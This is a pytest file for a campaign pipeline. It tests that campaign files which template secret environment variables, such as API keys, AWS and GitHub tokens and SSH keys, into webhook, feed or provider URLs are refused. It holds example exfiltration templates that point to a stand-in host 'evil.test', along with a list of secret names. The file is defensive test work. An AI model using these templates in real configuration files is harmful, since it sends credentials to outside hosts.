"""Variables in campaign files: addresses, and no key that the file's own hosts would be sent."""

import pytest
from campaign_texts import HEAD

from pipeline.campaign.environment import fill_environment
from pipeline.errors import CampaignError, UsageError

KEY = "sk-live-0123456789"


@pytest.fixture
def campaign(board):
    def loaded(part):
        board.write(HEAD + "prompt: a photo\n" + part)
        return board.load().campaign

    return loaded


@pytest.fixture
def owner(monkeypatch):
    def sets(**variables):
        for name, value in variables.items():
            monkeypatch.setenv(name, value)

    return sets


SECRETS = [
    "GPTIMAGE_API_KEY",
    "PIPELINE_SERVE_KEY",
    "PIPELINE_LEDGER",
    "OPENAI_API_KEY",
    "AWS_SECRET_ACCESS_KEY",
    "AWS_SESSION_TOKEN",
    "GITHUB_TOKEN",
    "DB_PASSWORD",
    "PGPASSWD",
    "SSH_PRIVATE_KEY",
    "SLACK_BOT_TOKEN",
    "MY_KEY_2",
    "npm_config__auth_token",
]


@pytest.mark.parametrize("name", SECRETS)
@pytest.mark.parametrize(
    "part",
    [
        'notify: [{when: [always], webhook: "https://evil.test/{{ env.NAME }}"}]\n',
        'notify: [{ping: "https://evil.test/{{ env.NAME }}"}]\n',
        'notify: [{to: "json://evil.test/{{ env.NAME }}"}]\n',
        'notify: [{to: ["json://evil.test", "json://evil.test/{{ env.NAME }}"]}]\n',
        'feed_hosts: ["{{ env.NAME }}.evil.test"]\n',
        'providers: {gptimage: {base_url: "https://evil.test/{{env.NAME}}"}}\n',
        'providers: {gptimage: {image_hosts: ["{{ env.NAME }}.evil.test"]}}\n',
        'providers: {gptimage: {ca_file: "/tmp/{{ env.NAME }}"}}\n',
    ],
)
def test_a_file_that_names_a_secret_is_refused_before_anything_is_sent(campaign, owner, part, name):
    """A webhook sent the key of the API to any host, and `check --strict` was silent."""
    owner(**{name: KEY})
    with pytest.raises(CampaignError) as refused:
        campaign(part.replace("NAME", name))
    [finding] = refused.value.findings
    assert (finding.code, finding.line) == ("secret-variable", 6)
    assert f"PIPELINE_FILE_VARIABLES={name}" in finding.complaint
    assert KEY not in str(finding)


@pytest.mark.parametrize("name", ["WEBHOOK", "SLACK_WEBHOOK", "GATEWAY", "MONKEY", "KEYBOARD_HOST"])
def test_a_variable_that_holds_an_address_is_none(campaign, name):
    part = 'notify: [{when: [always], webhook: "{{ env.NAME }}"}]\n'
    assert campaign(part.replace("NAME", name)).notices[0].webhook == f"{{{{ env.{name} }}}}"


def test_the_owner_may_trust_a_file_with_a_token(campaign, owner):
    owner(PIPELINE_FILE_VARIABLES="OTHER, SLACK_BOT_TOKEN", SLACK_BOT_TOKEN="xoxb")
    part = 'notify: [{when: [always], webhook: "https://hooks.test/{{ env.SLACK_BOT_TOKEN }}"}]\n'
    assert fill_environment(campaign(part).notices[0].webhook, _environment()) == (
        "https://hooks.test/xoxb"
    )


def _environment():
    return {"SLACK_BOT_TOKEN": "xoxb", "PIPELINE_FILE_VARIABLES": "SLACK_BOT_TOKEN"}


def test_a_key_under_another_name_is_noticed_by_its_value():
    environment = {"HARMLESS": f"x{KEY}", "GPTIMAGE_API_KEY": KEY}
    with pytest.raises(UsageError, match="GPTIMAGE_API_KEY") as refused:
        fill_environment("https://evil.test/{{ env.HARMLESS }}", environment)
    assert KEY not in str(refused.value)
    trusted = {**environment, "PIPELINE_FILE_VARIABLES": "GPTIMAGE_API_KEY"}
    assert fill_environment("{{ env.HARMLESS }}", trusted) == f"x{KEY}"


def test_a_variable_that_is_not_set_is_named():
    with pytest.raises(KeyError, match="HOST"):
        fill_environment("{{ env.HOST }}", {})
